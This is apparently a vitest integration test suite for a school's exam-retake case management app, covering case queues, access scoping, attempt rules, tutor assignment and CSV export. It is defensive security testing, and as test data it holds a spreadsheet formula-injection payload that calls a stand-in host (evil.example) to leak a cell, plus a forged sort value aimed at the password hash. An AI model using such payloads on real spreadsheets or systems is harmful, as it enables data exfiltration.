import { describe, expect, it } from "vitest";
import { recordAttempt } from "#app/domain/attempts/mutations.server";
import { CASELOAD_COLUMNS, CASELOAD_EXPORT } from "#app/domain/cases/caseload";
import { addDays, addMonths, today } from "#app/domain/dates";
import { action as newAttemptAction } from "#app/routes/app/attempts/new";
import { action as caseloadAction, loader as caseloadLoader } from "#app/routes/app/cases/index";
import { action as overviewAction, loader as overviewLoader } from "#app/routes/app/cases/overview";
import { action as queueAction, loader as queueLoader } from "#app/routes/app/queue/index";
import { loader as exportLoader } from "#app/routes/resources/cases-export";
import { prisma } from "#app/utils/db.server";
import { createFailedCase, createSchool, createSchoolWithCase, createStudent, createUser, takeCaseAs } from "../factories";
import { call, download } from "../utils/route";

/** Runs the CSV export as the given person. */
const exportCsv = (userId: string, query = "") => download(exportLoader, { userId, path: `/cases/export.csv${query}` });

const ALL_EXPORT_HEADERS = CASELOAD_COLUMNS.flatMap((c) => [...CASELOAD_EXPORT[c.id].headers]);

describe("intake queue", () => {
  it("lets exactly one of two tutors take a case at the same moment, and tells the other who took it", async () => {
    const { caseId, tutor, otherTutor } = await createSchoolWithCase();
    const [a, b] = await Promise.all([
      call(queueAction, { userId: tutor.id, path: "/queue", form: { intent: "take", caseId } }),
      call(queueAction, { userId: otherTutor.id, path: "/queue", form: { intent: "take", caseId } }),
    ]);
    const statuses = [a.status, b.status].sort();
    expect(statuses).toEqual([302, 409]);
    const loser = a.status === 409 ? a : b;
    const winnerId = a.status === 302 ? tutor : otherTutor;
    expect(loser.data.error).toBe(`${winnerId.name} has already taken on this case.`);
    const assignments = await prisma.caseAssignment.findMany({ where: { caseId } });
    expect(assignments).toHaveLength(1);
    const row = await prisma.retakeCase.findUniqueOrThrow({ where: { id: caseId } });
    expect(row.tutorId).toBe(winnerId.id);
    expect(row.status).toBe("DIAGNOSING");
  });

  it("shows only the schools the person serves, oldest first, and refuses a tutor of another school", async () => {
    const { school, caseId, tutor } = await createSchoolWithCase();
    const later = await createStudent(school.id);
    const { caseId: newer } = await createFailedCase({ studentId: later.studentId, takenOn: addDays(today(), -3) });
    const elsewhere = await createSchoolWithCase();
    const queue = await call(queueLoader, { userId: tutor.id, path: "/queue" });
    const ids = queue.data.cases.map((c: { id: string }) => c.id);
    expect(ids).toEqual([caseId, newer]);
    expect(ids).not.toContain(elsewhere.caseId);
    const stranger = await call(queueAction, { userId: elsewhere.tutor.id, path: "/queue", form: { intent: "take", caseId } });
    expect(stranger.status).toBe(403);
  });

  it("lets the office assign with a reason, keeps the history and refuses a stale form", async () => {
    const { caseId, advisor, tutor, otherTutor } = await createSchoolWithCase();
    const missing = await call(queueAction, {
      userId: advisor.id,
      path: "/queue",
      form: { intent: "assign", caseId, tutorId: tutor.id, reason: "", expectedVersion: "1" },
    });
    expect(missing.status).toBe(400);
    expect(missing.data.result.error.reason).toBeDefined();
    const version = (await prisma.retakeCase.findUniqueOrThrow({ where: { id: caseId } })).version;
    const first = await call(queueAction, {
      userId: advisor.id,
      path: "/queue",
      form: { intent: "assign", caseId, tutorId: tutor.id, reason: "Step 1 specialist", expectedVersion: String(version) },
    });
    expect(first.status).toBe(302);
    const stale = await call(overviewAction, {
      userId: advisor.id,
      path: `/cases/${caseId}`,
      params: { caseId },
      form: { intent: "assign", caseId, tutorId: otherTutor.id, reason: "Workload", expectedVersion: String(version) },
    });
    expect(stale.status).toBe(409);
    expect(stale.data.error).toMatch(/Someone else changed this case/);
    const fresh = await call(overviewAction, {
      userId: advisor.id,
      path: `/cases/${caseId}`,
      params: { caseId },
      form: { intent: "assign", caseId, tutorId: otherTutor.id, reason: "Workload", expectedVersion: String(version + 1) },
    });
    expect(fresh.status).toBe(302);
    const history = await prisma.caseAssignment.findMany({ where: { caseId }, orderBy: { startedAt: "asc" } });
    expect(history.map((h) => [h.tutorId, h.reason, h.endedAt === null])).toEqual([
      [tutor.id, "Step 1 specialist", false],
      [otherTutor.id, "Workload", true],
    ]);
    const tutorAssigns = await call(queueAction, {
      userId: tutor.id,
      path: "/queue",
      form: { intent: "assign", caseId, tutorId: tutor.id, reason: "me", expectedVersion: "9" },
    });
    expect(tutorAssigns.status).toBe(403);
  });
});

describe("caseload scope", () => {
  it("shows a tutor only their own cases, the office all of its school's, and refuses students", async () => {
    const { school, caseId, tutor, otherTutor, advisor, student } = await createSchoolWithCase();
    const second = await createStudent(school.id);
    const { caseId: otherCase } = await createFailedCase({ studentId: second.studentId });
    await takeCaseAs({ caseId, tutorId: tutor.id });
    await takeCaseAs({ caseId: otherCase, tutorId: otherTutor.id });
    const elsewhere = await createSchoolWithCase();

    const mine = await call(caseloadLoader, { userId: tutor.id, path: "/cases" });
    expect(mine.data.rows.map((r: { id: string }) => r.id)).toEqual([caseId]);
    const office = await call(caseloadLoader, { userId: advisor.id, path: "/cases" });
    expect(office.data.rows.map((r: { id: string }) => r.id).sort()).toEqual([caseId, otherCase].sort());
    expect(office.data.rows.map((r: { id: string }) => r.id)).not.toContain(elsewhere.caseId);
    expect((await call(caseloadLoader, { userId: student.userId, path: "/cases" })).status).toBe(403);
    // A case of another tutor cannot be opened either.
    expect((await call(overviewLoader, { userId: tutor.id, path: `/cases/${otherCase}`, params: { caseId: otherCase } })).status).toBe(403);
  });

  it("sorts, filters and pages from the URL, and ignores a forged sort", async () => {
    const school = await createSchool();
    const advisor = await createUser({ schoolId: school.id, role: "ADVISOR" });
    const names = ["Ana Zed", "Ben Young", "Cara Xu", "Dan Wu", "Eve Vo"];
    for (const [i, name] of names.entries()) {
      const s = await createStudent(school.id, name);
      await createFailedCase({ studentId: s.studentId, exam: i % 2 ? "STEP2_CK" : "STEP1" });
    }
    const page = (query: string) => call(caseloadLoader, { userId: advisor.id, path: `/cases${query}` });
    const byName = await page("?sort=student&dir=desc&size=10");
    expect(byName.data.rows.map((r: { studentName: string }) => r.studentName)).toEqual([...names].reverse());
    const filtered = await page("?exam=STEP2_CK&sort=student&dir=asc");
    expect(filtered.data.rows.map((r: { studentName: string }) => r.studentName)).toEqual(["Ben Young", "Dan Wu"]);
    const searched = await page("?q=cara");
    expect(searched.data.rows.map((r: { studentName: string }) => r.studentName)).toEqual(["Cara Xu"]);
    const paged = await page("?sort=student&dir=asc&size=10&page=1");
    expect(paged.data.total).toBe(5);
    // A forged sort parameter falls back to the default and never reaches the query.
    const forged = await page("?sort=student.user.passwordHash&dir=asc;DROP");
    const defaults = await page("");
    expect(forged.data.params).toEqual(defaults.data.params);
    expect(forged.data.rows.map((r: { id: string }) => r.id)).toEqual(defaults.data.rows.map((r: { id: string }) => r.id));
  });

  it("exports the filtered view as CSV with a CSV library", async () => {
    const school = await createSchool();
    const advisor = await createUser({ schoolId: school.id, role: "ADVISOR" });
    for (const name of ['Quote "Q" Person', "Comma, Person"]) {
      const s = await createStudent(school.id, name);
      await createFailedCase({ studentId: s.studentId });
    }
    const { parse } = await import("csv-parse/sync");
    const response = await exportCsv(advisor.id, "?sort=student&dir=asc");
    expect(response.status).toBe(200);
    expect(response.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    const rows: Array<Record<string, string>> = parse(await response.text(), { columns: true });
    expect(rows.map((r) => r.Student)).toEqual(["Comma, Person", 'Quote "Q" Person']);
    expect(rows[0].Exam).toBe("Step 1");
  });

  it("puts the chosen columns in the URL, remembers them in a cookie and keeps the view", async () => {
    const { advisor } = await createSchoolWithCase();
    const saved = await call(caseloadAction, {
      userId: advisor.id,
      path: "/cases",
      form: { intent: "columns", show: ["exam", "status"], search: "?exam=STEP1" },
    });
    expect(saved.status).toBe(302);
    const location = new URL(saved.location ?? "", "http://localhost");
    expect(location.pathname).toBe("/cases");
    expect(location.searchParams.get("exam")).toBe("STEP1");
    expect(location.searchParams.get("hide")?.split(",")).toEqual([
      "tutor",
      "attempts",
      "daysToExam",
      "practice",
      "readiness",
      "risk",
      "escalations",
      "lastContact",
    ]);
    const cookie = saved.headers.get("Set-Cookie") ?? "";
    expect(cookie).toMatch(/^rd_caseload_columns=/);
    const { caseloadColumnsCookie } = await import("#app/utils/preferences.server");
    const hidden = await caseloadColumnsCookie.parse(cookie.split(";")[0]);
    expect(String(hidden).split(",")).toContain("risk");
    expect(String(hidden).split(",")).not.toContain("exam");
  });
});

describe("attempts on the case page", () => {
  it("shows one attempt left after a third Step 1 failure, and ineligibility after the fourth", async () => {
    const { school, advisor } = await createSchoolWithCase();
    const s = await createStudent(school.id);
    const dates = [addMonths(today(), -30), addMonths(today(), -20), addMonths(today(), -10)];
    let caseId = "";
    for (const takenOn of dates) {
      const r = await recordAttempt({ studentId: s.studentId, exam: "STEP1", takenOn, outcome: "FAIL", actorId: advisor.id });
      if (!r.ok) throw new Error(JSON.stringify(r));
      caseId = r.caseId as string;
    }
    const third = await call(overviewLoader, { userId: advisor.id, path: `/cases/${caseId}`, params: { caseId } });
    expect(third.data.examSummary.usmleAttemptsLeft).toBe(1);
    expect(third.data.examSummary.nextIsLastChance).toBe(true);

    // A proposed 4th attempt five months after the 3rd breaks the spacing rule.
    const proposed = addMonths(dates[2], 5);
    const check = await call(overviewLoader, { userId: advisor.id, path: `/cases/${caseId}?proposed=${proposed}`, params: { caseId } });
    expect(check.data.check.ok).toBe(false);
    expect(check.data.check.violations.map((v: { code: string }) => v.code)).toContain("LATE_AFTER_LATEST");

    const fourth = await call(overviewAction, {
      userId: advisor.id,
      path: `/cases/${caseId}`,
      params: { caseId },
      form: { intent: "attempt", exam: "STEP1", takenOn: addDays(today(), -5), outcome: "FAIL", score: "" },
    });
    expect(fourth.status).toBe(302);
    const closed = await prisma.retakeCase.findUniqueOrThrow({ where: { id: caseId } });
    expect([closed.status, closed.outcome, closed.openSlot]).toEqual(["CLOSED", "INELIGIBLE", null]);
    expect((await prisma.studentProfile.findUniqueOrThrow({ where: { id: s.studentId } })).ineligibleSince).not.toBeNull();
    // Ineligible for every Step: a Step 2 CK result after that is refused.
    const after = await recordAttempt({
      studentId: s.studentId,
      exam: "STEP2_CK",
      takenOn: today(),
      outcome: "FAIL",
      score: 200,
      actorId: advisor.id,
    });
    expect(after.ok).toBe(false);
  });

  it("gives field errors and keeps the values for a bad result, and a pass closes the case", async () => {
    const { caseId, advisor } = await createSchoolWithCase();
    const future = await call(overviewAction, {
      userId: advisor.id,
      path: `/cases/${caseId}`,
      params: { caseId },
      form: { intent: "attempt", exam: "STEP1", takenOn: addDays(today(), 3), outcome: "PASS", score: "230" },
    });
    expect(future.status).toBe(400);
    expect(future.data.result.error.takenOn[0]).toMatch(/future/);
    expect(future.data.result.initialValue).toMatchObject({ exam: "STEP1", outcome: "PASS", score: "230" });
    const pass = await call(overviewAction, {
      userId: advisor.id,
      path: `/cases/${caseId}`,
      params: { caseId },
      form: { intent: "attempt", exam: "STEP1", takenOn: today(), outcome: "PASS", score: "" },
    });
    expect(pass.status).toBe(302);
    const row = await prisma.retakeCase.findUniqueOrThrow({ where: { id: caseId } });
    expect([row.status, row.outcome]).toEqual(["CLOSED", "PASSED"]);
  });

  it("records a double-submitted failure once", async () => {
    const { caseId, student, advisor } = await createSchoolWithCase();
    const form = { intent: "attempt", exam: "STEP1", takenOn: addDays(today(), -2), outcome: "FAIL", score: "" };
    const [a, b] = await Promise.all([
      call(overviewAction, { userId: advisor.id, path: `/cases/${caseId}`, params: { caseId }, form }),
      call(overviewAction, { userId: advisor.id, path: `/cases/${caseId}`, params: { caseId }, form }),
    ]);
    expect([a.status, b.status]).toEqual([302, 302]);
    expect(await prisma.examAttempt.count({ where: { studentId: student.studentId } })).toBe(2);
    expect(await prisma.retakeCase.count({ where: { studentId: student.studentId } })).toBe(1);
  });

  it("lets a student record their own result, never someone else's", async () => {
    const school = await createSchool();
    const s = await createStudent(school.id);
    const other = await createStudent(school.id);
    const { caseId: othersCase } = await createFailedCase({ studentId: other.studentId });
    const own = await call(newAttemptAction, {
      userId: s.userId,
      path: "/attempts/new",
      form: { exam: "STEP1", takenOn: addDays(today(), -10), outcome: "FAIL", student: other.email },
    });
    expect(own.status).toBe(302);
    // The student field is ignored for students: the attempt is theirs.
    expect(await prisma.examAttempt.count({ where: { studentId: s.studentId } })).toBe(1);
    expect(await prisma.examAttempt.count({ where: { studentId: other.studentId } })).toBe(1);
    const forged = await call(overviewAction, {
      userId: s.userId,
      path: `/cases/${othersCase}`,
      params: { caseId: othersCase },
      form: { intent: "attempt", exam: "STEP1", takenOn: addDays(today(), -1), outcome: "FAIL" },
    });
    expect(forged.status).toBe(403);
  });

  it("refuses status changes from a student, a stale version, and a tutor closing a case", async () => {
    const { caseId, advisor, tutor, student } = await createSchoolWithCase({ takenBy: "tutor" });
    const { version } = await prisma.retakeCase.findUniqueOrThrow({ where: { id: caseId } });
    const form = (to: string, v = version, extra: Record<string, string> = {}) => ({
      intent: "status",
      to,
      expectedVersion: String(v),
      ...extra,
    });
    expect(
      (await call(overviewAction, { userId: student.userId, path: `/cases/${caseId}`, params: { caseId }, form: form("PLANNING") })).status,
    ).toBe(403);
    expect(
      (
        await call(overviewAction, {
          userId: tutor.id,
          path: `/cases/${caseId}`,
          params: { caseId },
          form: form("CLOSED", version, { outcome: "WITHDRAWN" }),
        })
      ).status,
    ).toBe(403);
    expect(
      (await call(overviewAction, { userId: tutor.id, path: `/cases/${caseId}`, params: { caseId }, form: form("PLANNING") })).status,
    ).toBe(302);
    const stale = await call(overviewAction, { userId: advisor.id, path: `/cases/${caseId}`, params: { caseId }, form: form("ACTIVE") });
    expect(stale.status).toBe(409);
    const log = await prisma.activityLog.findMany({ where: { caseId, action: "case.status_changed" } });
    expect(log.map((l) => JSON.parse(l.after ?? "{}").status)).toContain("PLANNING");
  });
});

describe("caseload export", () => {
  it("answers an empty view with the header row only", async () => {
    const school = await createSchool();
    const advisor = await createUser({ schoolId: school.id, role: "ADVISOR" });
    const response = await exportCsv(advisor.id, "?q=nobody-by-this-name");
    expect(response.status).toBe(200);
    const { parse } = await import("csv-parse/sync");
    const rows: string[][] = parse(await response.text());
    expect(rows).toEqual([ALL_EXPORT_HEADERS]);
    // A tutor's export hides the tutor column by default; the header follows.
    const tutor = await createUser({ schoolId: school.id, role: "TUTOR" });
    const tutorRows: string[][] = parse(await (await exportCsv(tutor.id)).text());
    expect(tutorRows).toEqual([ALL_EXPORT_HEADERS.filter((h) => h !== "Tutor")]);
  });

  it("neutralizes imported text a spreadsheet would run as a formula", async () => {
    const school = await createSchool();
    const advisor = await createUser({ schoolId: school.id, role: "ADVISOR" });
    const names = ['=HYPERLINK("http://evil.example/?leak="&A1,"Open")', "+1+2", "-3+4", "@SUM(A1:A2)", "\tTabbed", "Plain Name"];
    for (const name of names) {
      const s = await createStudent(school.id, name);
      await createFailedCase({ studentId: s.studentId });
    }
    const response = await exportCsv(advisor.id, "?sort=student&dir=asc");
    expect(response.status).toBe(200);
    const { parse } = await import("csv-parse/sync");
    const rows: Array<Record<string, string>> = parse(await response.text(), { columns: true });
    const exported = rows.map((r) => r.Student).sort();
    expect(exported).toEqual(
      ["'\tTabbed", "'+1+2", "'-3+4", '\'=HYPERLINK("http://evil.example/?leak="&A1,"Open")', "'@SUM(A1:A2)", "Plain Name"].sort(),
    );
    // Numbers stay numbers.
    expect(rows.every((r) => /^\d+$/.test(r["Attempts used"]))).toBe(true);
  });

  it("holds only the person's own cases: another school's tutor gets none, a student is refused", async () => {
    const { tutor, student } = await createSchoolWithCase({ takenBy: "tutor" });
    const studentName = (await prisma.user.findUniqueOrThrow({ where: { id: student.userId } })).name;
    const elsewhere = await createSchoolWithCase({ takenBy: "tutor" });

    const own = await (await exportCsv(tutor.id)).text();
    expect(own).toContain(studentName);
    const stranger = await exportCsv(elsewhere.tutor.id);
    expect(stranger.status).toBe(200);
    const text = await stranger.text();
    expect(text).not.toContain(studentName);
    expect(text).not.toContain(student.email);
    const strangerOffice = await (await exportCsv(elsewhere.advisor.id)).text();
    expect(strangerOffice).not.toContain(studentName);

    const refused = await call(exportLoader, { userId: student.userId, path: "/cases/export.csv" });
    expect(refused.status).toBe(403);
  });
});

describe("assigning a tutor", () => {
  const assignForm = (caseId: string, tutorId: string, version: number, reason = "Step 1 specialist") => ({
    intent: "assign",
    caseId,
    tutorId,
    reason,
    expectedVersion: String(version),
  });
  const versionOf = async (caseId: string) => (await prisma.retakeCase.findUniqueOrThrow({ where: { id: caseId } })).version;

  it("refuses a deactivated tutor and another school's tutor as field errors that keep the values, on both pages", async () => {
    const { caseId, advisor, tutor } = await createSchoolWithCase();
    const elsewhere = await createSchoolWithCase();
    await prisma.user.update({ where: { id: tutor.id }, data: { status: "DEACTIVATED" } });
    const version = await versionOf(caseId);

    for (const tutorId of [tutor.id, elsewhere.tutor.id]) {
      const fromQueue = await call(queueAction, { userId: advisor.id, path: "/queue", form: assignForm(caseId, tutorId, version) });
      expect(fromQueue.status).toBe(400);
      expect(fromQueue.data.result.error.tutorId[0]).toMatch(/active tutor who serves this school/);
      expect(fromQueue.data.result.initialValue).toMatchObject({ tutorId, reason: "Step 1 specialist" });
      const fromOverview = await call(overviewAction, {
        userId: advisor.id,
        path: `/cases/${caseId}`,
        params: { caseId },
        form: assignForm(caseId, tutorId, version),
      });
      expect(fromOverview.status).toBe(400);
      expect(fromOverview.data.result.error.tutorId[0]).toMatch(/active tutor who serves this school/);
      expect(fromOverview.data.result.initialValue).toMatchObject({ tutorId, reason: "Step 1 specialist" });
    }
    const row = await prisma.retakeCase.findUniqueOrThrow({ where: { id: caseId } });
    expect([row.tutorId, row.version]).toEqual([null, version]);
    expect(await prisma.caseAssignment.count({ where: { caseId } })).toBe(0);
    expect(await prisma.activityLog.count({ where: { caseId, action: { in: ["case.assigned", "case.reassigned"] } } })).toBe(0);
  });

  it("refuses another school's office (queue and overview) and a tutor using the overview's assign", async () => {
    const { caseId, tutor, otherTutor } = await createSchoolWithCase({ takenBy: "tutor" });
    const elsewhere = await createSchoolWithCase();
    const version = await versionOf(caseId);
    const form = assignForm(caseId, otherTutor.id, version);
    const strangerQueue = await call(queueAction, { userId: elsewhere.advisor.id, path: "/queue", form });
    expect(strangerQueue.status).toBe(403);
    const strangerOverview = await call(overviewAction, { userId: elsewhere.admin.id, path: `/cases/${caseId}`, params: { caseId }, form });
    expect(strangerOverview.status).toBe(403);
    const byTutor = await call(overviewAction, { userId: tutor.id, path: `/cases/${caseId}`, params: { caseId }, form });
    expect(byTutor.status).toBe(403);
    const row = await prisma.retakeCase.findUniqueOrThrow({ where: { id: caseId } });
    expect([row.tutorId, row.version]).toEqual([tutor.id, version]);
  });

  it("refuses taking a closed case with a clear answer", async () => {
    const { caseId, advisor, tutor } = await createSchoolWithCase();
    const closed = await call(overviewAction, {
      userId: advisor.id,
      path: `/cases/${caseId}`,
      params: { caseId },
      form: { intent: "status", to: "CLOSED", outcome: "WITHDRAWN", expectedVersion: String(await versionOf(caseId)) },
    });
    expect(closed.status).toBe(302);
    const take = await call(queueAction, { userId: tutor.id, path: "/queue", form: { intent: "take", caseId } });
    expect(take.status).toBe(409);
    expect(take.data.error).toBe("This case is closed.");
    const assign = await call(queueAction, {
      userId: advisor.id,
      path: "/queue",
      form: assignForm(caseId, tutor.id, await versionOf(caseId)),
    });
    expect(assign.status).toBe(409);
    expect(assign.data.error).toBe("This case is closed.");
    expect((await prisma.retakeCase.findUniqueOrThrow({ where: { id: caseId } })).tutorId).toBeNull();
    expect(await prisma.caseAssignment.count({ where: { caseId } })).toBe(0);
  });

  it("logs taking, assigning and reassigning, with the reason kept out of the summary", async () => {
    const taken = await createSchoolWithCase();
    expect(
      (await call(queueAction, { userId: taken.tutor.id, path: "/queue", form: { intent: "take", caseId: taken.caseId } })).status,
    ).toBe(302);
    const takeLog = await prisma.activityLog.findMany({ where: { caseId: taken.caseId, action: "case.taken" } });
    expect(takeLog).toHaveLength(1);
    expect([takeLog[0].actorId, takeLog[0].entity, JSON.parse(takeLog[0].after ?? "{}").tutorId]).toEqual([
      taken.tutor.id,
      "RetakeCase",
      taken.tutor.id,
    ]);

    const { caseId, advisor, tutor, otherTutor } = await createSchoolWithCase();
    const first = await call(queueAction, {
      userId: advisor.id,
      path: "/queue",
      form: assignForm(caseId, tutor.id, await versionOf(caseId), "Step 1 specialist"),
    });
    expect(first.status).toBe(302);
    const second = await call(overviewAction, {
      userId: advisor.id,
      path: `/cases/${caseId}`,
      params: { caseId },
      form: assignForm(caseId, otherTutor.id, await versionOf(caseId), "Workload rebalance"),
    });
    expect(second.status).toBe(302);
    const log = await prisma.activityLog.findMany({
      where: { caseId, action: { in: ["case.assigned", "case.reassigned"] } },
      orderBy: { createdAt: "asc" },
    });
    expect(log.map((l) => [l.action, l.actorId, JSON.parse(l.after ?? "{}").tutorId, JSON.parse(l.after ?? "{}").reason])).toEqual([
      ["case.assigned", advisor.id, tutor.id, "Step 1 specialist"],
      ["case.reassigned", advisor.id, otherTutor.id, "Workload rebalance"],
    ]);
    expect(log[0].summary).toBe(`Assigned to ${tutor.name}`);
    expect(log[1].summary).toBe(`Reassigned from ${tutor.name} to ${otherTutor.name}`);
    // Assigning the tutor who already has the case is a field error, not a silent no-op.
    const again = await call(overviewAction, {
      userId: advisor.id,
      path: `/cases/${caseId}`,
      params: { caseId },
      form: assignForm(caseId, otherTutor.id, await versionOf(caseId), "Again"),
    });
    expect(again.status).toBe(400);
    expect(again.data.result.error.tutorId[0]).toMatch(/already assigned/);
  });
});

describe("recording a result outside a case", () => {
  const failure = (student: string) => ({ exam: "STEP1", takenOn: addDays(today(), -12), outcome: "FAIL", score: "", student });

  it("refuses an unknown student and another school's student as a field error that keeps the values", async () => {
    const { advisor } = await createSchoolWithCase();
    const elsewhere = await createSchoolWithCase();
    for (const key of ["nobody@example.edu", elsewhere.student.email]) {
      const refused = await call(newAttemptAction, { userId: advisor.id, path: "/attempts/new", form: failure(key) });
      expect(refused.status).toBe(400);
      expect(refused.data.result.error.student).toEqual(["No student of your school has that email or student number."]);
      expect(refused.data.result.initialValue).toMatchObject({ student: key, exam: "STEP1", outcome: "FAIL" });
    }
    expect(await prisma.examAttempt.count({ where: { studentId: elsewhere.student.studentId } })).toBe(1);
  });

  it("refuses a tutor", async () => {
    const { tutor, student } = await createSchoolWithCase();
    const refused = await call(newAttemptAction, { userId: tutor.id, path: "/attempts/new", form: failure(student.email) });
    expect(refused.status).toBe(403);
    expect(await prisma.examAttempt.count({ where: { studentId: student.studentId } })).toBe(1);
  });

  it("finds the student by student number or email (any case) and logs the attempt and the opened case", async () => {
    const school = await createSchool();
    const advisor = await createUser({ schoolId: school.id, role: "ADVISOR" });
    const s = await createStudent(school.id);
    await prisma.studentProfile.update({ where: { id: s.studentId }, data: { externalId: `SN-${s.studentId}` } });
    const recorded = await call(newAttemptAction, { userId: advisor.id, path: "/attempts/new", form: failure(`SN-${s.studentId}`) });
    expect(recorded.status).toBe(302);
    const opened = await prisma.retakeCase.findFirstOrThrow({ where: { studentId: s.studentId } });
    expect(recorded.location).toBe(`/cases/${opened.id}`);
    const attempt = await prisma.examAttempt.findFirstOrThrow({ where: { studentId: s.studentId } });
    const log = await prisma.activityLog.findMany({ where: { schoolId: school.id, action: { in: ["attempt.recorded", "case.opened"] } } });
    expect(log.map((l) => [l.action, l.entity, l.entityId, l.caseId, l.actorId]).sort()).toEqual(
      [
        ["attempt.recorded", "ExamAttempt", attempt.id, opened.id, advisor.id],
        ["case.opened", "RetakeCase", opened.id, opened.id, advisor.id],
      ].sort(),
    );

    const byEmail = await call(newAttemptAction, {
      userId: advisor.id,
      path: "/attempts/new",
      form: { ...failure(s.email.toUpperCase()), exam: "STEP2_CK", score: "205" },
    });
    expect(byEmail.status).toBe(302);
    expect(await prisma.examAttempt.count({ where: { studentId: s.studentId } })).toBe(2);
  });
});
